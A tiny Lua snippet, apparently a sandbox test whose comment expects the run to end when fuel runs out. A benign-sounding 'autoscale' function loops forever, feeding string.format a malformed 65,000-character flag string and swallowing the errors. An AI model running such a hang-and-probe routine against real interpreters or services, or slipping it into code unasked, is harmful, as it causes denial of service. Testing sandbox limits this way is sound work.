-- ends in: fuel
function autoscale()
  local f = '%' .. ('-'):rep(65000)
  while true do pcall(string.format, f, 1) end
end
